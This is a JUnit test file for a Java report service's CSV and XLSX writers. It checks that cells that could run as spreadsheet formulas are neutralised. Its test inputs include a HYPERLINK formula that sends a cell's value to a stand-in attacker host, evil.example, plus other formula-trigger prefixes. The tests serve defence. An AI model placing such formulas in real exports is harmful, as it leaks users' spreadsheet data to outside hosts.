package org.communedx.service.report;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.charset.StandardCharsets;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.util.DefaultTempFileCreationStrategy;
import org.apache.poi.util.TempFile;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalStateException;

/** What the CSV and XLSX writers put in a cell: text that could be a formula is neutralised, numbers stay numbers. */
class TableWriterTests {

    private static final List<String> DANGEROUS = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào\")",
            "+1", "-1", "@SUM(A1:A9)", "\tTab", "\rCR");

    @Test
    void csvNeutralisesTextThatASpreadsheetWouldRunAsAFormula() throws IOException {
        byte[] csv = write(ExportFormat.CSV, DANGEROUS);

        List<CSVRecord> records = CSVFormat.RFC4180.parse(new java.io.StringReader(
                new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8))).getRecords();

        assertThat(records.get(1).toList()).containsExactly(
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào\")", "'+1", "'-1", "'@SUM(A1:A9)", "'\tTab",
                "'\rCR");
    }

    /**
     * A string cell is never run; edited, Excel would read it again as typed, so the cell is marked as text by its
     * style (the quote prefix), which shows the text as it is: an apostrophe in the cell showed in the export.
     */
    @Test
    void xlsxWritesTextAsPlainStringsMarkedAsTextWhereAFormulaCouldBeRead() throws IOException {
        byte[] xlsx = write(ExportFormat.XLSX, DANGEROUS);

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Row row = workbook.getSheet("Bảng").getRow(1);
            for (int i = 0; i < DANGEROUS.size(); i++) {
                Cell cell = row.getCell(i);
                assertThat(cell.getCellType()).as("cell %d", i).isEqualTo(CellType.STRING);
                assertThat(cell.getStringCellValue()).isEqualTo(DANGEROUS.get(i));
                assertThat(cell.getCellStyle().getQuotePrefixed()).as("cell %d", i).isTrue();
            }
        }
    }

    @Test
    void numbersStayNumbersAndHarmlessTextIsUntouched() throws IOException {
        List<Object> cells = Arrays.asList(new java.math.BigDecimal("-12.5"), 7, "Xã Yên Phú", "18/20", null,
                LocalDateTime.of(2026, 12, 1, 8, 30));

        byte[] csv = write(ExportFormat.CSV, cells);
        byte[] xlsx = write(ExportFormat.XLSX, cells);

        assertThat(new String(csv, StandardCharsets.UTF_8)).endsWith("-12.5,7,Xã Yên Phú,18/20,,2026-12-01 08:30\r\n");
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Row row = workbook.getSheetAt(0).getRow(1);
            assertThat(row.getCell(0).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(row.getCell(0).getNumericCellValue()).isEqualTo(-12.5);
            assertThat(row.getCell(1).getNumericCellValue()).isEqualTo(7);
            assertThat(row.getCell(2).getStringCellValue()).isEqualTo("Xã Yên Phú");
            assertThat(row.getCell(2).getCellStyle().getQuotePrefixed()).isFalse();
            assertThat(row.getCell(3).getStringCellValue()).isEqualTo("18/20");
            assertThat(row.getCell(4)).isNull();
            assertThat(row.getCell(5).getLocalDateTimeCellValue()).isEqualTo(LocalDateTime.of(2026, 12, 1, 8, 30));
        }
    }

    @Test
    void csvStartsWithAByteOrderMarkSoThatExcelReadsUtf8() throws IOException {
        byte[] csv = write(ExportFormat.CSV, List.of("Hòa Bình"));

        assertThat(Arrays.copyOf(csv, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        assertThat(new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8))
                .isEqualTo("Mã,Tên,Ghi chú,Số,Trống,Lúc\r\nHòa Bình\r\n");
    }

    @Test
    void xlsxKeepsSeveralSheetsAndCsvOnlyOneTable() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TableWriter writer = TableWriter.open(ExportFormat.XLSX, out)) {
            writer.table("Một: [thử]", List.of("A"));
            writer.row(List.of("1"));
            writer.table("Hai", List.of("B"));
            writer.row(List.of("2"));
            writer.finish();
        }
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            assertThat(workbook.getNumberOfSheets()).isEqualTo(2);
            Sheet second = workbook.getSheet("Hai");
            assertThat(second.getRow(1).getCell(0).getStringCellValue()).isEqualTo("2");
            assertThat(workbook.getSheetName(0)).isEqualTo("Một   thử");
        }

        try (TableWriter csv = TableWriter.open(ExportFormat.CSV, new ByteArrayOutputStream())) {
            csv.table("Một", List.of("A"));
            assertThatIllegalStateException().isThrownBy(() -> csv.table("Hai", List.of("B")));
        }
    }

    @Test
    void xlsxKeepsAWindowOfRowsAndDeletesItsTemporaryFileAfterwards(@TempDir Path temporary) {
        DefaultTempFileCreationStrategy inTemporary = new DefaultTempFileCreationStrategy(temporary.toFile());
        List<Long> sizesWhileWriting = new ArrayList<>();

        byte[] xlsx = TempFile.withStrategy(inTemporary, () -> {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (TableWriter writer = TableWriter.open(ExportFormat.XLSX, out)) {
                writer.table("Bảng", List.of("Số"));
                for (int i = 0; i < 5 * XlsxTableWriter.WINDOW; i++) {
                    writer.row(List.of(i));
                }
                sizesWhileWriting.add(sizeOf(temporary));
                writer.finish();
            }
            catch (IOException ex) {
                throw new UncheckedIOException(ex);
            }
            return out.toByteArray();
        });

        assertThat(sizesWhileWriting).as("rows beyond the window went to a temporary file").allMatch(size -> size > 0);
        assertThat(sizeOf(temporary)).as("temporary files left").isZero();
        assertThat(xlsx).isNotEmpty();
    }

    private static long sizeOf(Path directory) {
        try (Stream<Path> files = Files.walk(directory)) {
            return files.filter(Files::isRegularFile).mapToLong(file -> file.toFile().length()).sum();
        }
        catch (IOException ex) {
            throw new UncheckedIOException(ex);
        }
    }

    private static byte[] write(ExportFormat format, List<?> row) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TableWriter writer = TableWriter.open(format, out)) {
            writer.table("Bảng", List.of("Mã", "Tên", "Ghi chú", "Số", "Trống", "Lúc"));
            writer.row(row);
            writer.finish();
        }
        return out.toByteArray();
    }
}
